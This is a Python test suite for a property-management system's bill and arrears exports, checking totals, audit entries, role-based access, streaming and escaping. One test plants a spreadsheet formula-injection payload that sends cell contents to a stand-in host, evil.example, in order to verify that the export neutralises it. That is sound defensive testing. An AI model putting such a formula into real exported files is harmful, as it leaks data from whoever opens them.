"""Bills and arrears as CSV and XLSX downloads: authenticated, authorised and scoped like the
API, exact money, safe to open in Excel, streamed, audited, in a fixed number of statements."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
from collections.abc import Sequence
from decimal import Decimal
from typing import Any

import httpx
import pytest
from billing_support import Ledger
from openpyxl import load_workbook
from sqlalchemy import func, select, text, update
from starlette.requests import ClientDisconnect

from backend.accounts.models import User
from backend.app import create_app
from backend.audit.models import AuditEntry
from backend.billing import exports
from backend.billing.models import Bill, BillLine, BillLineKind, BillStatus, FeeBinding, FeeItem, PaymentMethod
from backend.billing.payments import pay_bills
from backend.billing.service import generate_bills
from backend.db import local_today, to_global_id
from backend.people.models import Occupancy, Person
from backend.property.models import Building, Estate, Unit, UnitUsage

SUMMARY = """
query($estate: ID!, $period: String!) {
  billingSummary(estateId: $estate, period: $period) { billed collected waived outstanding }
}
"""
AGING = "query($estate: ID!) { arrearsAging(estateId: $estate) { buckets { label amount units } } }"

MONEY_COLUMNS = {
    "Amount", "Adjustments", "Late fees", "Paid", "Waived", "Outstanding", "Overdue total",
    "0-30 days", "31-60 days", "61-90 days", "91-180 days", ">180 days",
}  # fmt: skip
SEPTEMBER = dt.date(2026, 9, 1)


# --- helpers ----------------------------------------------------------------------------------


async def _download(as_user: Any, username: str | None, path: str, **params: str) -> httpx.Response:
    client = await as_user(username)
    headers = {"authorization": f"Bearer {client.token}"} if client.token else {}
    response: httpx.Response = await client.http.get(path, params=params, headers=headers)
    return response


def _csv(response: httpx.Response) -> tuple[list[str], list[dict[str, str]]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    header, *rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def _xlsx(response: httpx.Response) -> tuple[list[str], list[dict[str, str]]]:
    """The sheet's rows as the CSV would write them (numbers to two places, ISO dates)."""
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).worksheets[0]
    header, *rows = [list(values) for values in sheet.iter_rows(values_only=True)]

    def text(column: str, value: Any) -> str:
        if value is None:
            return ""
        if isinstance(value, dt.datetime):
            return value.date().isoformat()
        if column in MONEY_COLUMNS:
            return f"{Decimal(str(value)):.2f}"
        return str(value)

    return header, [{c: text(c, v) for c, v in zip(header, row, strict=True)} for row in rows]


def _total(rows: Sequence[dict[str, str]], *columns: str) -> Decimal:
    return sum((Decimal(row[c]) for row in rows for c in columns), Decimal("0.00"))


async def _estate_ids(runtime: Any) -> dict[str, str]:
    async with runtime.sessionmaker() as session:
        rows = await session.execute(select(Estate.code, Estate.id).where(Estate.code.like("DEMO-%")))
        return {code: to_global_id("Estate", pk) for code, pk in rows}


async def _exports_audited(runtime: Any, username: str) -> int:
    async with runtime.sessionmaker() as session:
        user_id = await session.scalar(select(User.id).where(User.username == username))
        return int(
            await session.scalar(
                select(func.count()).where(AuditEntry.actor_user_id == user_id, AuditEntry.action.like("%.export"))
            )
            or 0
        )


async def _bill_units(runtime: Any, ledger: Ledger, count: int) -> None:
    """``count`` more flats in the ledger's estate, billed for property fee from September."""
    async with runtime.sessionmaker() as session, session.begin():
        building_id = ledger.units[0].building_id
        first = await session.scalar(select(func.count()).where(Unit.estate_id == ledger.estate.id))
        units = [
            Unit(estate_id=ledger.estate.id, building_id=building_id, code=f"2-1-{first + n:04d}", floor=2,
                 building_area=Decimal("100.00"), inner_area=Decimal("80.00"), usage=UnitUsage.RESIDENTIAL)
            for n in range(count)
        ]  # fmt: skip
        session.add_all(units)
        await session.flush()
        session.add_all(
            FeeBinding(unit_id=u.id, fee_item_id=ledger.items["PF"].id, start_date=SEPTEMBER) for u in units
        )
        await session.flush()
        await generate_bills(session=session, estate=ledger.estate, month=SEPTEMBER, actor_id=None, request_id=None)


async def _admin_id(runtime: Any) -> int:
    async with runtime.sessionmaker() as session:
        admin = await session.scalar(select(User.id).where(User.username == "admin"))
        assert admin is not None
        return admin


# --- bills ------------------------------------------------------------------------------------


async def test_a_months_bills_add_up_to_the_billing_summary(as_user: Any, runtime: Any) -> None:
    # given: last month, billed, partly paid in the demo
    estates = await _estate_ids(runtime)
    month = local_today().replace(day=1) - dt.timedelta(days=1)
    period = f"{month:%Y-%m}"
    finance = await as_user("finance.north")
    summary = (await finance.data(SUMMARY, {"estate": estates["DEMO-A"], "period": period}))["billingSummary"]
    audited = await _exports_audited(runtime, "finance.north")
    # when
    response = await _download(
        as_user, "finance.north", "/exports/bills.csv", estateId=estates["DEMO-A"], period=period
    )
    # then
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f"attachment; filename=\"bills-DEMO-A-{period}.csv\"; filename*=UTF-8''bills-DEMO-A-{period}.csv"
    )
    assert response.headers["cache-control"] == "no-store"
    assert b"\r\n" in response.content
    assert b"\n" not in response.content.replace(b"\r\n", b"")
    header, rows = _csv(response)
    assert header == list(exports.BILL_HEADER)
    async with runtime.sessionmaker() as session:
        demo_a = await session.scalar(select(Estate.id).where(Estate.code == "DEMO-A"))
        billed = await session.scalar(
            select(func.count()).where(
                Bill.estate_id == demo_a, Bill.period_start == month.replace(day=1), Bill.status != BillStatus.VOID
            )
        )
    assert len(rows) == billed > 100
    assert {row["Estate"] for row in rows} == {"DEMO-A"}
    assert {row["Period start"][:7] for row in rows} == {period}
    assert _total(rows, "Amount", "Adjustments", "Late fees") == Decimal(summary["billed"])
    assert _total(rows, "Paid") == Decimal(summary["collected"])
    assert _total(rows, "Waived") == Decimal(summary["waived"])
    assert _total(rows, "Outstanding") == Decimal(summary["outstanding"])
    assert all(len(row["Amount"].rpartition(".")[2]) == 2 for row in rows)
    # and the export is on record, with its filters and row count
    assert await _exports_audited(runtime, "finance.north") == audited + 1
    async with runtime.sessionmaker() as session:
        entry = await session.scalar(
            select(AuditEntry).where(AuditEntry.action == "bills.export").order_by(AuditEntry.id.desc()).limit(1)
        )
    assert entry is not None
    assert entry.target_id == str(demo_a)
    assert entry.detail == {
        "estate": "DEMO-A",
        "period": period,
        "status": None,
        "feeItemCode": None,
        "format": "csv",
        "rows": len(rows),
    }


async def test_each_column_of_a_bill_is_exact(as_user: Any, runtime: Any, ledger: Ledger) -> None:
    # given: the flat's September property fee (223.90) corrected by −10.00, 1.50 late fee,
    # 100.00 paid and 20.00 waived
    async with runtime.sessionmaker() as session, session.begin():
        await generate_bills(session=session, estate=ledger.estate, month=SEPTEMBER, actor_id=None, request_id=None)
        bill = await session.scalar(
            select(Bill).where(Bill.unit_id == ledger.units[0].id, Bill.fee_item_id == ledger.items["PF"].id)
        )
        assert bill is not None
        session.add_all(
            [
                BillLine(bill_id=bill.id, kind=BillLineKind.ADJUSTMENT, amount=Decimal("-10.00")),
                BillLine(bill_id=bill.id, kind=BillLineKind.LATE_FEE, amount=Decimal("1.50"), accrued_on=SEPTEMBER),
                BillLine(bill_id=bill.id, kind=BillLineKind.WAIVER, amount=Decimal("20.00")),
            ]
        )
        await pay_bills(
            session=session,
            bill_ids=[bill.id],
            amount=Decimal("100.00"),
            method=PaymentMethod.CASH,
            idempotency_key=uuid.uuid4().hex,
            actor_id=await _admin_id(runtime),
            request_id=None,
        )
    # when
    response = await _download(
        as_user, "finance.north", "/exports/bills.csv", estateId=ledger.estate.gid, feeItemCode="PF"
    )
    # then
    _header, rows = _csv(response)
    row = next(r for r in rows if r["Unit"] == "1-1-101")
    assert row == {
        "Estate": ledger.estate.code,
        "Building": "1号楼",
        "Unit": "1-1-101",
        "Fee item code": "PF",
        "Fee item": "物业费",
        "Period": "2026-09",
        "Period start": "2026-09-01",
        "Period end": "2026-09-30",
        "Due date": "2026-09-28",
        "Amount": "223.90",
        "Adjustments": "-10.00",
        "Late fees": "1.50",
        "Paid": "100.00",
        "Waived": "20.00",
        "Outstanding": "95.40",
        "Status": "PARTIAL",
        "Bill ID": to_global_id("Bill", bill.id),
    }
    assert [r["Unit"] for r in rows] == ["1-1-101", "1-1-102"]  # PF only


async def test_status_filter_and_void_bills(as_user: Any, runtime: Any, ledger: Ledger) -> None:
    # given: September billed (PF × 2, PK × 1); the parking bill voided
    async with runtime.sessionmaker() as session, session.begin():
        await generate_bills(session=session, estate=ledger.estate, month=SEPTEMBER, actor_id=None, request_id=None)
        await session.execute(
            update(Bill).where(Bill.fee_item_id == ledger.items["PK"].id).values(status=BillStatus.VOID)
        )
    path, estate = "/exports/bills.csv", ledger.estate.gid
    # when
    default = _csv(await _download(as_user, "finance.north", path, estateId=estate))[1]
    void = _csv(await _download(as_user, "finance.north", path, estateId=estate, status="VOID"))[1]
    both = _csv(await _download(as_user, "finance.north", path, estateId=estate, status="UNPAID,VOID"))[1]
    # then: a void bill only when asked for, and it owes nothing
    assert [(r["Fee item code"], r["Status"]) for r in default] == [("PF", "UNPAID"), ("PF", "UNPAID")]
    assert [(r["Fee item code"], r["Status"], r["Outstanding"]) for r in void] == [("PK", "VOID", "0.00")]
    assert len(both) == 3


async def test_the_xlsx_has_the_same_rows_as_the_csv(as_user: Any, runtime: Any) -> None:
    # given
    estates = await _estate_ids(runtime)
    month = local_today().replace(day=1) - dt.timedelta(days=1)
    params = {"estateId": estates["DEMO-A"], "period": f"{month:%Y-%m}"}
    # when
    as_csv = await _download(as_user, "cs.a", "/exports/bills.csv", **params)
    as_xlsx = await _download(as_user, "cs.a", "/exports/bills.xlsx", **params)
    # then
    assert as_xlsx.status_code == 200
    assert as_xlsx.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert as_xlsx.headers["content-disposition"].startswith(f'attachment; filename="bills-DEMO-A-{month:%Y-%m}.xlsx"')
    assert int(as_xlsx.headers["content-length"]) == len(as_xlsx.content)
    csv_header, csv_rows = _csv(as_csv)
    xlsx_header, xlsx_rows = _xlsx(as_xlsx)
    assert xlsx_header == csv_header
    assert len(xlsx_rows) == len(csv_rows) > 100
    assert xlsx_rows == csv_rows


async def test_a_formula_in_a_name_is_written_as_text(as_user: Any, runtime: Any, ledger: Ledger) -> None:
    # given: names an attacker could have entered
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    async with runtime.sessionmaker() as session, session.begin():
        await session.execute(update(FeeItem).where(FeeItem.id == ledger.items["PF"].id).values(name=formula))
        await session.execute(update(Building).where(Building.estate_id == ledger.estate.id).values(name="@SUM(1+1)"))
        await generate_bills(session=session, estate=ledger.estate, month=SEPTEMBER, actor_id=None, request_id=None)
    params = {"estateId": ledger.estate.gid, "feeItemCode": "PF"}
    # when
    as_csv = await _download(as_user, "finance.north", "/exports/bills.csv", **params)
    as_xlsx = await _download(as_user, "finance.north", "/exports/bills.xlsx", **params)
    # then
    _header, rows = _csv(as_csv)
    assert {(r["Fee item"], r["Building"]) for r in rows} == {("'" + formula, "'@SUM(1+1)")}
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).worksheets[0]
    cells = [sheet.cell(row=2, column=exports.BILL_HEADER.index(name) + 1) for name in ("Fee item", "Building")]
    assert [(c.value, c.data_type) for c in cells] == [("'" + formula, "s"), ("'@SUM(1+1)", "s")]


# --- arrears ----------------------------------------------------------------------------------


async def test_arrears_rows_add_up_to_the_arrears_aging(as_user: Any, runtime: Any) -> None:
    # given
    estates = await _estate_ids(runtime)
    finance = await as_user("finance.north")
    aging = (await finance.data(AGING, {"estate": estates["DEMO-A"]}))["arrearsAging"]["buckets"]
    # when
    response = await _download(as_user, "finance.north", "/exports/arrears.csv", estateId=estates["DEMO-A"])
    # then
    assert response.status_code == 200, response.text
    today = local_today().isoformat()
    assert f'filename="arrears-DEMO-A-{today}.csv"' in response.headers["content-disposition"]
    header, rows = _csv(response)
    assert header == list(exports.ARREARS_HEADER)
    assert len(rows) > 0
    for bucket in aging:
        column = f"{bucket['label']} days"
        assert _total(rows, column) == Decimal(bucket["amount"]), column
        assert sum(Decimal(r[column]) > 0 for r in rows) == bucket["units"], column
    assert _total(rows, "Overdue total") == sum(Decimal(b["amount"]) for b in aging)
    assert all(r["Oldest due date"] < today and int(r["Overdue bills"]) > 0 for r in rows)
    # and the payer is the owner by name; no phone or ID number is anywhere in the file
    async with runtime.sessionmaker() as session:
        persons = (
            await session.execute(
                select(Person.name, Person.phone, Person.id_number)
                .join(Occupancy, Occupancy.person_id == Person.id)
                .join(Unit, Unit.id == Occupancy.unit_id)
                .join(Estate, Estate.id == Unit.estate_id)
                .where(Estate.code == "DEMO-A")
            )
        ).all()
    payers = {name for r in rows for name in r["Payer"].split("、") if name}
    assert payers
    assert payers <= {name for name, _phone, _id in persons}
    text = response.content.decode("utf-8")
    assert not [phone for _name, phone, _id in persons if phone and phone in text]
    assert not [number for _name, _phone, number in persons if number and number in text]


async def test_arrears_xlsx_matches_csv(as_user: Any, runtime: Any) -> None:
    estates = await _estate_ids(runtime)
    as_csv = await _download(as_user, "manager.north", "/exports/arrears.csv", estateId=estates["DEMO-B"])
    as_xlsx = await _download(as_user, "manager.north", "/exports/arrears.xlsx", estateId=estates["DEMO-B"])
    assert _xlsx(as_xlsx) == _csv(as_csv)
    assert len(_csv(as_csv)[1]) > 0


# --- who may export ---------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/exports/bills.csv", "/exports/arrears.xlsx"])
@pytest.mark.parametrize(
    ("username", "estate", "status"),
    [
        ("admin", "DEMO-C", 200),
        ("manager.north", "DEMO-B", 200),
        ("finance.north", "DEMO-A", 200),
        ("cs.a", "DEMO-A", 200),
        ("cs.a", "DEMO-B", 404),
        ("finance.north", "DEMO-C", 404),
        ("owner.a1", "DEMO-A", 403),
        ("tech.a", "DEMO-A", 403),
        ("guard.a", "DEMO-A", 403),
        ("supervisor.north", "DEMO-A", 403),
    ],
)
async def test_exports_by_role(as_user: Any, runtime: Any, path: str, username: str, estate: str, status: int) -> None:
    # given
    estates = await _estate_ids(runtime)
    audited = await _exports_audited(runtime, username)
    # when
    response = await _download(as_user, username, path, estateId=estates[estate])
    # then: a file and an audit entry, or an error and nothing on record
    assert response.status_code == status, response.text
    assert await _exports_audited(runtime, username) == audited + (status == 200)
    if status == 403:
        assert response.json() == {
            "errors": [{"message": "You are not allowed to do this.", "extensions": {"code": "FORBIDDEN"}}]
        }


async def test_an_estate_out_of_scope_is_answered_like_a_missing_one(as_user: Any, runtime: Any) -> None:
    # given
    estates = await _estate_ids(runtime)
    audited = await _exports_audited(runtime, "finance.north")
    # when
    out_of_scope = await _download(as_user, "finance.north", "/exports/bills.csv", estateId=estates["DEMO-C"])
    missing = await _download(
        as_user, "finance.north", "/exports/bills.csv", estateId=to_global_id("Estate", 987654321)
    )
    not_an_estate = await _download(as_user, "finance.north", "/exports/bills.csv", estateId=to_global_id("Bill", 1))
    # then
    assert out_of_scope.status_code == missing.status_code == not_an_estate.status_code == 404
    assert out_of_scope.json() == missing.json() == not_an_estate.json()
    assert out_of_scope.json()["errors"][0]["extensions"]["code"] == "NOT_FOUND"
    assert await _exports_audited(runtime, "finance.north") == audited


async def test_without_a_token_or_with_a_bad_one_is_unauthenticated(http: httpx.AsyncClient, runtime: Any) -> None:
    # given
    estates = await _estate_ids(runtime)
    params = {"estateId": estates["DEMO-A"]}
    # when
    anonymous = await http.get("/exports/bills.csv", params=params)
    forged = await http.get("/exports/arrears.csv", params=params, headers={"authorization": "Bearer not.a.token"})
    not_bearer = await http.get("/exports/bills.xlsx", params=params, headers={"authorization": "Basic YWRtaW4="})
    graphql = await http.post("/graphql", json={"query": "{ viewer { id } }"}, headers={"authorization": "Bearer x"})
    # then: 401, and for a bad token the very error /graphql gives
    assert anonymous.status_code == forged.status_code == not_bearer.status_code == 401
    assert anonymous.headers["www-authenticate"] == "Bearer"
    assert anonymous.json()["errors"][0]["extensions"]["code"] == "UNAUTHENTICATED"
    assert forged.headers["www-authenticate"] == 'Bearer error="invalid_token"'
    assert forged.json() == not_bearer.json() == graphql.json()


@pytest.mark.parametrize(
    ("path", "params", "message"),
    [
        ("/exports/bills.csv", {}, "`estateId` is required."),
        ("/exports/bills.csv", {"estateId": "DEMO-A", "period": "2026-13"}, "A period is a month: YYYY-MM."),
        ("/exports/bills.csv", {"estateId": "DEMO-A", "status": "UNPAID,OPEN"}, "`status` is one or more of"),
        ("/exports/bills.csv", {"estate_id": "DEMO-A"}, "Unknown parameter 'estate_id'."),
        ("/exports/arrears.csv", {"estateId": "DEMO-A", "period": "2026-10"}, "Unknown parameter 'period'."),
    ],
)
async def test_bad_parameters_are_bad_input(
    as_user: Any, runtime: Any, path: str, params: dict[str, str], message: str
) -> None:
    # given
    estates = await _estate_ids(runtime)
    audited = await _exports_audited(runtime, "finance.north")
    # when
    response = await _download(as_user, "finance.north", path, **{k: estates.get(v, v) for k, v in params.items()})
    # then
    assert response.status_code == 400
    error = response.json()["errors"][0]
    assert error["extensions"]["code"] == "BAD_USER_INPUT"
    assert error["message"].startswith(message)
    assert await _exports_audited(runtime, "finance.north") == audited


# --- streaming and statement counts -----------------------------------------------------------


def _asgi_get(path: str, query: str, token: str) -> dict[str, Any]:
    """An HTTP/1.1 GET as a server would hand it to the app (ASGI 2.4: no disconnect watcher)."""
    return {
        "type": "http", "asgi": {"version": "3.0", "spec_version": "2.4"}, "http_version": "1.1", "method": "GET",
        "scheme": "http", "path": path, "raw_path": path.encode(), "root_path": "", "query_string": query.encode(),
        "headers": [(b"host", b"wuye.test"), (b"authorization", f"Bearer {token}".encode())],
        "client": ("127.0.0.1", 50000), "server": ("wuye.test", 80),
    }  # fmt: skip


async def _receive() -> dict[str, Any]:
    return {"type": "http.request", "body": b"", "more_body": False}


async def test_the_csv_is_streamed_in_chunks_of_rows(
    runtime: Any, settings: Any, as_user: Any, ledger: Ledger, monkeypatch: pytest.MonkeyPatch
) -> None:
    # given: 10 property-fee bills, read 4 rows at a time
    await _bill_units(runtime, ledger, 8)
    monkeypatch.setattr(exports, "CHUNK_ROWS", 4)
    token = (await as_user("finance.north")).token
    scope = _asgi_get("/exports/bills.csv", f"estateId={ledger.estate.gid}&feeItemCode=PF", token)
    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    # when
    await create_app(settings, runtime=runtime)(scope, _receive, send)
    # then: the header line, then rows 4 + 4 + 2, then the end
    bodies = [m["body"] for m in sent if m["type"] == "http.response.body"]
    assert [body.count(b"\r\n") for body in bodies] == [1, 4, 4, 2, 0]
    assert bodies[0].startswith("\ufeff".encode())


async def test_a_client_gone_mid_download_releases_the_connection(
    runtime: Any, settings: Any, as_user: Any, ledger: Ledger, monkeypatch: pytest.MonkeyPatch
) -> None:
    # given: a download of 10 rows, 2 at a time, whose client goes away after the first rows
    await _bill_units(runtime, ledger, 8)
    monkeypatch.setattr(exports, "CHUNK_ROWS", 2)
    token = (await as_user("finance.north")).token
    scope = _asgi_get("/exports/bills.csv", f"estateId={ledger.estate.gid}&feeItemCode=PF", token)
    bodies: list[bytes] = []

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.body":
            if len(bodies) == 2:
                raise OSError("connection reset by peer")
            bodies.append(message["body"])

    checked_out = runtime.engine.pool.checkedout()
    # when
    with pytest.raises(ClientDisconnect):
        await create_app(settings, runtime=runtime)(scope, _receive, send)
    # then: the snapshot's connection went back to the pool at once
    assert [body.count(b"\r\n") for body in bodies] == [1, 2]
    assert runtime.engine.pool.checkedout() == checked_out


@pytest.mark.parametrize(
    "path", ["/exports/bills.csv", "/exports/bills.xlsx", "/exports/arrears.csv", "/exports/arrears.xlsx"]
)
async def test_the_statement_count_does_not_grow_with_the_rows(
    as_user: Any, runtime: Any, ledger: Ledger, count_statements: Any, path: str
) -> None:
    # given: 10 overdue property-fee bills (8 more flats besides the ledger's two), and the
    # parking space's fee: 10 bills, 11 units in arrears
    await _bill_units(runtime, ledger, 8)
    await as_user("finance.north")  # logged in before counting
    params = {"estateId": ledger.estate.gid} | ({"feeItemCode": "PF"} if "bills" in path else {})
    # when
    count_statements.statements.clear()
    few = await _download(as_user, "finance.north", path, **params)
    with_ten = count_statements.count
    await _bill_units(runtime, ledger, 90)
    count_statements.statements.clear()
    many = await _download(as_user, "finance.north", path, **params)
    with_hundred = count_statements.count
    # then
    read = _csv if path.endswith(".csv") else _xlsx
    assert (len(read(few)[1]), len(read(many)[1])) == ((10, 100) if "bills" in path else (11, 101))
    assert with_ten == with_hundred <= 4


async def test_a_head_request_exports_nothing(as_user: Any, runtime: Any) -> None:
    # given
    estates = await _estate_ids(runtime)
    client = await as_user("finance.north")
    audited = await _exports_audited(runtime, "finance.north")
    # when
    response = await client.http.head(
        "/exports/bills.csv",
        params={"estateId": estates["DEMO-A"]},
        headers={"authorization": f"Bearer {client.token}"},
    )
    # then
    assert response.status_code == 405
    assert response.headers["allow"] == "GET"
    assert await _exports_audited(runtime, "finance.north") == audited


async def test_an_export_reads_one_read_only_snapshot(runtime: Any) -> None:
    # when
    async with runtime.sessionmaker() as session:
        await exports.begin_snapshot(session)
        isolation = await session.scalar(text("SHOW transaction_isolation"))
        read_only = await session.scalar(text("SHOW transaction_read_only"))
    # then
    assert (isolation, read_only) == ("repeatable read", "on")
